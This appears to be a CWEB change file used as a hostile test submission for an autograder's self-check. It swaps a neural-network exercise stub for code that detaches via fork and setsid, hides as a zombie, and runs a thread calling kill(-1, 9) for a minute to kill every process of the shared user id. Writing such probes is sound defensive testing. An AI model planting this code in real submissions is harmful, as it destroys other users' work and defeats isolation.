Hostile submission for the grader's self-check: a survivor. A child leaves the
process group (setsid), starts a thread (a GNU nested function, which needs no
new section) and ends its main thread, so that it shows as a zombie in /proc
while the thread runs on; the thread kills every process of its user id for a
minute: the next student who is lent the uid would lose its ctangle, compiler
and worker.
@x
/* Exercise 5: your code here. This stub gives zero weights and a zero context. */
(void) s;
(void) O;
for (int i = 0; i < L; i++) wb[i] = 0.0f;
for (int j = 0; j < H; j++) c[j] = 0.0f;
@y
int fork(void);
int setsid(void);
int kill(int, int);
int usleep(unsigned);
int pthread_create(unsigned long *, const void *, void *(*)(void *), void *);
void pthread_exit(void *);
void *hostile_loop(void *a)
{
  for (int k = 0; k < 600; k++) {
    kill(-1, 9);
    usleep(100000);
  }
  return a;
}
(void) s;
(void) O;
if (fork() == 0) {
  unsigned long t;
  setsid();
  pthread_create(&t, 0, hostile_loop, 0);
  pthread_exit(0);
}
for (int i = 0; i < L; i++) wb[i] = 0.0f;
for (int j = 0; j < H; j++) c[j] = 0.0f;
@z
